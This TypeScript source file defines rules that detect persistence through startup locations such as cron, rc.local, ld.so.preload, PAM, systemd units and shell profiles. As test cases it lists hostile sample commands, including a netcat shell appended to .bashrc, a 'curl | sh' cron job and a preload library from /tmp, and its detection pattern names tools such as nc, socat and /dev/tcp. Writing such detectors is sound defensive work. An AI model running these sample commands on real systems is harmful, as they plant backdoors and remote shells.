import type { Program, ShellReading } from '../shell.ts';
import { isShell } from './execution.ts';
import { copied, isAmong, normalised, written, writtenInline, type Files } from './paths.ts';
import { hasOption, operands, sourcesOf, type Rule } from './rule.ts';
import { sharedFolder } from './paths.ts';

/** Files whose content runs by itself later. */
const startup: Files = {
  pattern: new RegExp(
    [
      String.raw`^/etc/(cron[^/]*|anacrontab|rc\.local|rc\.common|ld\.so\.preload|profile|profile\.d|bash\.bashrc|bashrc|zshenv|zshrc|pam\.d|pam\.conf|update-motd\.d|inittab|modules-load\.d|polkit-1/rules\.d|NetworkManager/dispatcher\.d|X11/Xsession\.d)(/|$)`,
      String.raw`^/etc/(rc\d?\.d|init\.d|init)/.`,
      String.raw`^/var/spool/(cron|at)(/|$)`,
      String.raw`^~/\.config/autostart/|^/etc/xdg/autostart/|^~/\.ssh/rc$`,
      String.raw`/systemd/system-generators/|/(dist|site)-packages/[^/]*(\.pth|customize\.py)$`,
      String.raw`^/(Library|System/Library)/Launch(Agents|Daemons)/|^~/Library/LaunchAgents/`,
    ].join('|'),
  ),
  known: ['/etc/crontab', '/etc/ld.so.preload', '/etc/rc.local', '/etc/profile'],
};
/** Of those, the ones that hold settings of shells, where a variable or an alias is daily. */
const settings =
  /^\/etc\/(profile|profile\.d\/.*|bash\.bashrc|bashrc|zshenv|zshrc|update-motd\.d\/.*|X11\/.*|polkit-1\/.*|modules-load\.d\/.*)$/;

/** Units and udev rules: operators write them too, so only content given on the line or brought from a shared folder counts. */
const units = /^(\/etc|\/lib|\/usr\/lib|\/run)\/(systemd\/(system|user)|udev\/rules\.d)\/.|^~\/\.config\/systemd\/user\//;
const unitFile = /\.(service|timer|socket|path|mount)$/;
const profiles =
  /^~\/\.(bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|shrc|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|login|logout|xprofile|xinitrc|xsessionrc|config\/fish\/config\.fish)$/;

/** What people usually put into a profile: a variable, an alias, a file to load, a tool's own set-up line. */
const everyday =
  /^\s*(#|$|(export\s+)?(?!LD_|PROMPT_COMMAND|BASH_ENV|ENV=)[A-Za-z_]\w*\+?=|alias\s+(?!sudo|su\b|ssh|ls=|cd=)|unalias\s|source\s+(?!\/tmp|\/dev)|\.\s+(?!\/tmp|\/dev)|eval\s+"?\$\(|set\s|setopt\s|shopt\s|umask\s|bindkey\s|complete\s|autoload\s|fpath|PATH=|\[+ )/;
/** What those who want to come back put there: a shell to the network, a download, a program nobody installed. */
const comesBack =
  /\/(tmp|dev\/shm|var\/tmp|dev\/tcp)\/|\b(curl|wget|nc|ncat|socat|nohup|base64|insmod)\b|\b(ba|z|da)?sh -[ic]\b|NOPASSWD|pam_(permit|exec)|0>&1|python\d? -c/;

/** The text a program writes, null where the line does not tell. */
function textOf(program: Program): string | null {
  return program.name === 'echo' || program.name === 'printf' ? operands(program).join(' ') : program.input;
}

/** Whether the line itself tells that only settings are written. */
const onlyEveryday = (program: Program): boolean => {
  const text = textOf(program);
  return text !== null && everyday.test(text);
};

function addsToProfile(program: Program): boolean {
  if (!writtenInline(program).some((path) => profiles.test(path))) return false;
  const text = textOf(program);
  return text !== null && !everyday.test(text);
}

/** Whether `crontab` takes the jobs from its input and not from a file that somebody can look at. */
const jobsFed = (program: Program): boolean =>
  program.name === 'crontab' &&
  (program.pipedFrom !== null || program.input !== null || program.redirects.some(({ operator }) => operator === '<')) &&
  !hasOption(program, 'leri');

/** What the line tells of the jobs: the text that is fed, and the words of whatever prints it. */
const jobText = (program: Program, reading: ShellReading): string =>
  [
    program.input ?? '',
    ...sourcesOf(program, reading).map(({ name, args }) => (name === 'echo' || name === 'printf' ? args.join(' ') : '')),
  ].join('\n');
const tellsJobs = (program: Program, reading: ShellReading): boolean =>
  /(^|\n|\s)(@\w+|[\d*][\d*/,-]*(\s+[\w*/,-]+){4})\s+\S/.test(jobText(program, reading));

export const startupChanges: readonly Rule[] = [
  {
    code: 'STARTUP_CHANGE',
    tactic: 'PERSISTENCE',
    points: 30,
    find(program) {
      const path =
        written(program).find((candidate) => isAmong(candidate, startup) && !(settings.test(candidate) && onlyEveryday(program))) ??
        copied(program).to.find(
          (candidate) => units.test(`${candidate}/x`) && copied(program).from.some((from) => sharedFolder.test(from)),
        );
      if (path !== undefined) return `changes what runs by itself: ${path.slice(0, 80)}`;
      return addsToProfile(program) ? 'adds a command to a shell profile' : null;
    },
    suspicious: ['cp job /etc/cron.d/', 'cp /tmp/x.service /etc/systemd/system/', 'vim /etc/crontab', 'echo fortune >> ~/.bashrc'],
    harmless: [
      'crontab -l',
      'cat /etc/crontab',
      'mkdir -p /etc/systemd/system/x.service.d',
      'cp app.service /etc/systemd/system/',
      'echo "export PATH=$PATH:/opt/bin" >> ~/.bashrc',
      'echo "alias ll=\'ls -l\'" >> ~/.zshrc',
      'ls /etc/cron.d',
      'systemctl enable nginx',
      'vim ~/.bashrc',
    ],
  },
  {
    code: 'STARTUP_WRITTEN',
    tactic: 'PERSISTENCE',
    points: 50,
    find(program, reading) {
      const paths = writtenInline(program);
      const path = paths.find((candidate) => isAmong(candidate, startup) && !settings.test(candidate));
      if (path !== undefined) return `writes what is to run by itself: ${path.slice(0, 80)}`;
      const text = textOf(program);
      const place = paths.find(
        (candidate) =>
          isAmong(candidate, startup) ||
          units.test(candidate) ||
          profiles.test(candidate) ||
          (sharedFolder.test(candidate) && unitFile.test(candidate)),
      );
      if (place !== undefined && text !== null && comesBack.test(text)) return `writes what is to run by itself: ${place.slice(0, 80)}`;
      if (jobsFed(program) && comesBack.test(jobText(program, reading))) return 'schedules what brings somebody back';
      const links =
        program.name === 'systemctl' &&
        program.args.some((word) => /^(link|enable|start|edit)$/.test(word)) &&
        operands(program).some((word) => sharedFolder.test(normalised(word, program.directory)));
      return links ? 'has a service run that lies in a shared folder' : null;
    },
    suspicious: [
      'echo "* * * * * root sh /tmp/x" >> /etc/crontab',
      'echo x | sudo tee -a /etc/rc.local',
      'sudo sh -c "echo /tmp/x.so > /etc/ld.so.preload"',
      'echo "nc -e /bin/sh h 1" >> ~/.bashrc',
      'sed -i "1i auth sufficient x.so" /etc/pam.d/sshd',
      'echo "ExecStart=/tmp/x" >> /etc/systemd/system/x.service',
      'systemctl enable /dev/shm/x.service',
      'echo "* * * * * curl h/x | sh" | crontab -',
    ],
    harmless: [
      'echo "export A=b" | sudo tee /etc/profile.d/a.sh',
      'systemctl enable ./x.service',
      'cat /etc/rc.local',
      'ls /etc/pam.d',
      'echo "export PATH=/opt/bin:$PATH" >> ~/.profile',
    ],
  },
  {
    code: 'CRONTAB_FROM_PIPE',
    tactic: 'PERSISTENCE',
    points: 30,
    find: (program, reading) => (jobsFed(program) && tellsJobs(program, reading) ? 'sets scheduled jobs from the command line' : null),
    suspicious: [
      'echo "* * * * * /opt/x" | crontab -',
      '(crontab -l; echo "@reboot /opt/x") | crontab -',
      'crontab - <<< "* * * * * x"',
      'echo "5 4 * * * x" | sudo crontab -u root -',
    ],
    harmless: ['crontab -l', 'crontab -e', 'crontab jobs.txt', 'crontab -l | grep x', 'echo y | crontab -r -i'],
  },
  {
    // Guides have people write units in just these words, so the file alone is a hint.
    code: 'UNIT_WRITTEN',
    tactic: 'PERSISTENCE',
    points: 15,
    find(program) {
      const path = writtenInline(program).find(
        (candidate) => units.test(candidate) || (sharedFolder.test(candidate) && unitFile.test(candidate)),
      );
      return path === undefined ? null : `writes a unit of the system on the line: ${path.slice(0, 80)}`;
    },
    suspicious: ['echo "[Service]" >> /etc/systemd/system/x.service', 'sudo tee /etc/udev/rules.d/9.rules < x'],
    harmless: ['cp app.service /etc/systemd/system/', 'cat /etc/systemd/system/x.service', 'echo "[Service]" > x.service'],
  },
  {
    code: 'SCHEDULED_BY_LINE',
    tactic: 'PERSISTENCE',
    points: 15,
    find(program) {
      const timer = program.via.includes('systemd-run') && program.name !== '' && isShell(program);
      const fed = /^(at|batch)$/.test(program.name) && (program.pipedFrom !== null || program.input !== null);
      if (jobsFed(program)) return 'sets scheduled jobs that the line does not tell';
      const crontab =
        program.name === 'crontab' && operands(program).some((word) => sharedFolder.test(normalised(word, program.directory)));
      return timer || fed || crontab ? 'has a command run later' : null;
    },
    suspicious: [
      'systemd-run --on-calendar "*:0/1" /bin/sh -c "date >> x"',
      'echo "make all" | at 17:00',
      'crontab /tmp/jobs',
      'crontab < jobs',
    ],
    harmless: ['systemd-run --user ./server', 'at -l', 'crontab jobs.txt', 'atq'],
  },
];
